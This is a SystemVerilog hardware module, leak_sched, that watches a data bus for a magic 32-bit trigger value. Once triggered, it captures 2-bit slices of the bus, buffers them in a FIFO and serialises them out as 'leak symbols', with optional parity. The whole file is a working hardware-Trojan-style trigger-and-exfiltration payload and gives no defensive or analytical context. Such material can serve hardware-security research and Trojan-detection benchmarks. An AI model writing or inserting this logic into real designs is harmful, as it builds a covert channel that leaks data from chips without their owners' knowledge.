// File: rtl/leak_sched.sv
// rtl/leak_sched.sv - triggered 2-bit slice capture with buffered leak-symbol serializer
// Optional feature macro: LEAK_PARITY_EN appends a parity symbol after each byte.
module leak_sched #(
    parameter logic [31:0] TRIG_PATTERN = 32'h0044ab93,
    parameter int          N_SLICES     = 32,
    parameter int          FIFO_DEPTH   = 4
) (
    input  logic        clk,
    input  logic        rst_all,
    input  logic [63:0] data,
    input  logic        arm,
    output logic        busy,
    output logic [4:0]  slice,
    output logic [1:0]  sym,
    output logic        sym_valid,
    input  logic        sym_ready,
    output logic        done
);
    localparam int PW = $clog2(FIFO_DEPTH);
`ifdef LEAK_PARITY_EN
    localparam int IW   = 3;
    localparam int LAST = 4;
`else
    localparam int IW   = 2;
    localparam int LAST = 3;
`endif

    typedef enum logic [2:0] {IDLE, CAPTURE, PUSH, NEXT, DRAIN} state_t;

    state_t        state_q, state_d;
    logic [4:0]    slice_q, slice_d;
    logic [5:0]    cnt_q, cnt_d;
    logic [1:0]    phase_q, phase_d;
    logic [7:0]    byte_q, byte_d;
    logic [7:0]    mem_q [FIFO_DEPTH];
    logic [PW-1:0] wr_q, wr_d, rd_q, rd_d;
    logic [PW:0]   occ_q, occ_d;
    logic [7:0]    ser_q, ser_d;
    logic [IW-1:0] idx_q, idx_d;
    logic          vld_q, vld_d;
    logic          done_q, done_d;
    logic          push, pop, full, empty, abort;

    always_comb begin
        state_d = state_q;
        slice_d = slice_q;
        cnt_d   = cnt_q;
        phase_d = phase_q;
        byte_d  = byte_q;
        done_d  = 1'b0;
        push    = 1'b0;
        abort   = (state_q != IDLE) && !arm;
        full    = (occ_q == (PW+1)'(FIFO_DEPTH));
        empty   = (occ_q == '0);

        unique case (state_q)
            IDLE: begin
                if (arm && data[31:0] == TRIG_PATTERN) begin
                    state_d = CAPTURE;
                    slice_d = data[36:32];
                    cnt_d   = '0;
                    phase_d = '0;
                end
            end
            CAPTURE: begin
                byte_d[{phase_q, 1'b0} +: 2] = data[{slice_q, 1'b0} +: 2];
                phase_d = phase_q + 2'd1;
                if (phase_q == 2'd3) state_d = PUSH;
            end
            PUSH: begin
                // a full buffer parks the captured byte here until space frees up
                if (!full) begin
                    push    = 1'b1;
                    state_d = NEXT;
                end
            end
            NEXT: begin
                slice_d = slice_q + 5'd1;
                cnt_d   = cnt_q + 6'd1;
                phase_d = '0;
                state_d = (cnt_q + 6'd1 == 6'(N_SLICES)) ? DRAIN : CAPTURE;
            end
            DRAIN: begin
                if (empty && !vld_q) begin
                    done_d  = 1'b1;
                    state_d = IDLE;
                end
            end
            default: state_d = IDLE;
        endcase

        ser_d = ser_q;
        idx_d = idx_q;
        vld_d = vld_q;
        pop   = 1'b0;
        if (!vld_q) begin
            if (!empty) begin
                pop   = 1'b1;
                ser_d = mem_q[rd_q];
                idx_d = '0;
                vld_d = 1'b1;
            end
        end else if (sym_ready) begin
            if (idx_q == IW'(LAST)) begin
                // reload straight from the buffer so consecutive bytes stream without a gap
                if (!empty) begin
                    pop   = 1'b1;
                    ser_d = mem_q[rd_q];
                    idx_d = '0;
                end else begin
                    vld_d = 1'b0;
                end
            end else begin
                idx_d = idx_q + IW'(1);
            end
        end

        wr_d  = push ? wr_q + PW'(1) : wr_q;
        rd_d  = pop ? rd_q + PW'(1) : rd_q;
        occ_d = occ_q + (PW+1)'(push) - (PW+1)'(pop);

        if (abort) begin
            state_d = IDLE;
            done_d  = 1'b0;
            vld_d   = 1'b0;
            idx_d   = '0;
            wr_d    = '0;
            rd_d    = '0;
            occ_d   = '0;
        end
    end

    always_ff @(posedge clk or posedge rst_all) begin
        if (rst_all) begin
            state_q <= IDLE;
            slice_q <= '0;
            cnt_q   <= '0;
            phase_q <= '0;
            byte_q  <= '0;
            wr_q    <= '0;
            rd_q    <= '0;
            occ_q   <= '0;
            ser_q   <= '0;
            idx_q   <= '0;
            vld_q   <= 1'b0;
            done_q  <= 1'b0;
        end else begin
            state_q <= state_d;
            slice_q <= slice_d;
            cnt_q   <= cnt_d;
            phase_q <= phase_d;
            byte_q  <= byte_d;
            wr_q    <= wr_d;
            rd_q    <= rd_d;
            occ_q   <= occ_d;
            ser_q   <= ser_d;
            idx_q   <= idx_d;
            vld_q   <= vld_d;
            done_q  <= done_d;
        end
    end

    always_ff @(posedge clk) begin
        if (push && !abort) mem_q[wr_q] <= byte_q;
    end

`ifdef LEAK_PARITY_EN
    assign sym = !vld_q ? 2'b00 :
                 (idx_q == IW'(LAST)) ? {1'b0, ^ser_q} : ser_q[{idx_q[1:0], 1'b0} +: 2];
`else
    assign sym = vld_q ? ser_q[{idx_q, 1'b0} +: 2] : 2'b00;
`endif

    assign busy      = (state_q != IDLE);
    assign slice     = slice_q;
    assign sym_valid = vld_q;
    assign done      = done_q;
endmodule
